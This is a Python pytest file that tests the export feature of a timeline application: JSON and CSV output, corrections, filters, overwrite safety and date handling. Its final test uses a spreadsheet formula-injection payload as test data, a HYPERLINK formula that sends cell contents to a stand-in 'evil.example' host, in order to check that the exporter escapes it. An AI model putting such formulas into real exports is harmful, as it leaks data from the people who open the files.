from __future__ import annotations

import csv
import json
import os
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from tests.builders import appearance, make_article, make_extraction, many_extractions
from timeline_app.domain.correction import Hide, Redate, Retitle
from timeline_app.domain.edtf import parse_edtf
from timeline_app.domain.event_filter import EventFilter
from timeline_app.domain.extraction import EventKind, Report, Resolution
from timeline_app.domain.facets import Facet
from timeline_app.errors import ReaderError, UsageError
from timeline_app.exporting import ExportReport, export, whole_file
from timeline_app.exports import csv_table, json_events
from timeline_app.exports.event import ExportedEvent
from timeline_app.exports.formats import BY_NAME, FORMATS, format_of
from timeline_app.library import Library
from timeline_app.messages import message

ALL = EventFilter()


@pytest.fixture
def path(tmp_path: Path) -> Path:
    path = tmp_path / "case.timeline"
    with Library.create(path) as library:
        library.add(
            [
                make_extraction(),
                make_extraction(title="Undated but quoted", published=None, body="Once upon a time.", outlet="B"),
                make_extraction(title="Also undated", published=None, body="In a land far away.", outlet="C"),
            ]
        )
    return path


def read_json(path: Path) -> list[ExportedEvent]:
    with path.open(encoding="utf-8") as file:
        return list(json_events.read(file))


def test_all_dated_events_are_written_in_the_order_of_time(path: Path, tmp_path: Path) -> None:
    report = export(path, tmp_path / "out.json", BY_NAME["json"], ALL)
    assert report == ExportReport(tmp_path / "out.json", 3, 2)
    events = read_json(report.path)
    assert [e.period for e in events] == [parse_edtf("2023-02-14"), parse_edtf("2023-02-14"), parse_edtf("2023-07")]
    met = events[1]
    assert met.evidence.quotation.startswith("NATO Secretary General Jens Stoltenberg met")
    assert met.stated == "on Tuesday"
    assert [name for name, _ in met.participants] == ["NATO", "Jens Stoltenberg", "Ukraine", "Brussels"]


@pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.name)
def test_every_format_writes_a_file(form: object, path: Path, tmp_path: Path) -> None:
    out = tmp_path / f"out{form.endings[0]}"  # type: ignore[attr-defined]
    assert format_of(out) is form
    assert export(path, out, form, ALL).events == 3  # type: ignore[arg-type]
    assert "Ministers meet in Brussels" in out.read_text(encoding="utf-8").replace("\r\n ", "")


def test_corrections_are_in_force_and_the_articles_own_date_stands_beside_them(path: Path, tmp_path: Path) -> None:
    with Library.open(path) as library:
        appeared, met, planned = (library.key_of_event(int(e)) for e in library.load_index().ids)
        library.correct(Hide(appeared))
        library.correct(Retitle(met, "They met"))
        library.correct(Redate(planned, parse_edtf("2022~")))
    export(path, tmp_path / "out.json", BY_NAME["json"], ALL)
    first, second = read_json(tmp_path / "out.json")
    assert (first.period, first.article_period) == (parse_edtf("2022~"), parse_edtf("2023-07"))
    assert (second.title, second.article_period) == ("They met", None)


def test_a_filter_counts_only_the_undated_that_it_asked_for(path: Path, tmp_path: Path) -> None:
    out, form = tmp_path / "out.csv", BY_NAME["csv"]

    def counts(wanted: EventFilter) -> tuple[int, int]:
        report = export(path, out, form, wanted, overwrite=True)
        return report.events, report.undated

    assert counts(EventFilter(query="land")) == (0, 1)
    assert counts(replace(EventFilter.of(Facet.OUTLET, "C"), query="time")) == (0, 0)
    assert counts(EventFilter.of(Facet.OUTLET, "B")) == (0, 1)
    assert counts(EventFilter.of(Facet.KIND, EventKind.PLANNED)) == (1, 0)
    assert counts(EventFilter(after=parse_edtf("2023-03").start)) == (1, 2)


def test_events_are_chosen_by_their_ids(path: Path, tmp_path: Path) -> None:
    with Library.open(path, read_only=True) as library:
        dated = [int(e) for e in library.load_index().ids]
        undated = library.article(library.undated()[0].id).events[0].id
    report = export(path, tmp_path / "out.json", BY_NAME["json"], [dated[2], undated, dated[0], dated[0], 10**9])
    assert (report.events, report.undated) == (2, 1)
    assert [e.kind for e in read_json(report.path)] == [EventKind.PUBLISHED, EventKind.PLANNED]


def test_a_file_that_is_there_stays_unless_it_is_to_be_replaced(path: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("mine", encoding="utf-8")
    with pytest.raises(UsageError, match="is there already and stays as it is"):
        export(path, out, BY_NAME["csv"], ALL)
    assert out.read_text(encoding="utf-8") == "mine"
    export(path, out, BY_NAME["csv"], ALL, overwrite=True)
    assert "mine" not in out.read_text(encoding="utf-8")


def test_neither_a_library_nor_a_folder_is_ever_written_over(path: Path, tmp_path: Path) -> None:
    before = path.read_bytes()
    other = tmp_path / "library-by-content.csv"
    other.write_bytes(before)
    for target in (path, other):
        with pytest.raises(UsageError, match="is a library"):
            export(path, target, BY_NAME["csv"], ALL, overwrite=True)
    assert (path.read_bytes(), other.read_bytes()) == (before, before)
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(UsageError, match="stays as it is"):
        export(path, tmp_path / "folder.csv", BY_NAME["csv"], ALL, overwrite=True)


def names_in(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir() if not p.name.startswith("case.timeline")}


def test_what_fails_half_way_leaves_nothing_and_the_old_file_as_it_was(tmp_path: Path) -> None:
    out = tmp_path / "out.md"
    out.write_text("old", encoding="utf-8")

    def write_half() -> None:
        with whole_file(out, overwrite=True) as file:
            file.write("half")
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        write_half()
    assert names_in(tmp_path) == {"out.md"}
    assert out.read_text(encoding="utf-8") == "old"


def test_a_file_that_came_into_being_meanwhile_is_not_replaced(tmp_path: Path) -> None:
    out = tmp_path / "out.md"

    def write() -> None:
        with whole_file(out, overwrite=False) as file:
            file.write("new")
            out.write_text("theirs", encoding="utf-8")

    with pytest.raises(UsageError):
        write()
    assert out.read_text(encoding="utf-8") == "theirs"
    assert names_in(tmp_path) == {"out.md"}


def test_a_place_that_cannot_be_written_to_is_one_sentence(path: Path, tmp_path: Path) -> None:
    with pytest.raises(ReaderError, match=r"nowhere.out\.csv cannot be written: "):
        export(path, tmp_path / "nowhere" / "out.csv", BY_NAME["csv"], ALL)


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="needs a folder that may not be written to")
def test_a_folder_without_permission_is_one_sentence(path: Path, tmp_path: Path) -> None:
    folder = tmp_path / "closed"
    folder.mkdir(mode=0o500)
    with pytest.raises(ReaderError, match="cannot be written"):
        export(path, folder / "out.csv", BY_NAME["csv"], ALL)


def test_cancelled_nothing_is_left(path: Path, tmp_path: Path) -> None:
    report = export(path, tmp_path / "out.csv", BY_NAME["csv"], ALL, is_cancelled=lambda: True)
    assert report.cancelled
    assert names_in(tmp_path) == set()


def test_dates_of_every_kind_pass_through_the_library(tmp_path: Path) -> None:
    body = "It happened then. " * 12
    dates = ["-0599", "-0043-03-15", "2023-02", "2014/..", "../1975-06", "1850~", "199X", "2021-22", "2023-02-14T10:30"]
    reason = Resolution("test", message("stated"))
    article = make_article(body=body)
    reports = [
        Report(edtf, EventKind.REPORTED, parse_edtf(edtf), (18 * at, 18 * at + 17), reason)
        for at, edtf in enumerate(dates)
    ]
    with Library.create(tmp_path / "case.timeline") as library:
        library.add([make_extraction(article, reports=[appearance(article), *reports])])
    export(tmp_path / "case.timeline", tmp_path / "out.csv", BY_NAME["csv"], ALL)
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        found = {event.title: event.period for event in csv_table.read(file)}
    assert {edtf: found[edtf] for edtf in dates} == {edtf: parse_edtf(edtf) for edtf in dates}


def test_ten_thousand_events_are_written_quickly_and_read_back_whole(tmp_path: Path) -> None:
    path = tmp_path / "case.timeline"
    with Library.create(path) as library:
        library.add([replace(e) for e in many_extractions(1700, words=75)])
    started = time.process_time()
    report = export(path, tmp_path / "out.csv", BY_NAME["csv"], ALL)
    seconds = time.process_time() - started
    assert report.events == 1700 * 6
    assert seconds < 15
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, strict=True))
    assert len(rows) == report.events
    assert [row["from"] for row in rows] == sorted(row["from"] for row in rows)


def test_a_title_that_is_a_formula_is_a_formula_in_no_cell(tmp_path: Path) -> None:
    title = '=HYPERLINK("http://evil.example/"&A1)'
    with Library.create(tmp_path / "case.timeline") as library:
        library.add([make_extraction(title=title, body="A body.", outlet="+1", author="@SUM(A1)")])
    export(tmp_path / "case.timeline", tmp_path / "out.csv", BY_NAME["csv"], ALL)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["title"], row["outlet"], row["author"]) == ("'" + title, "'+1", "'@SUM(A1)")
    export(tmp_path / "case.timeline", tmp_path / "out.json", BY_NAME["json"], ALL)
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["events"][0]["title"] == title
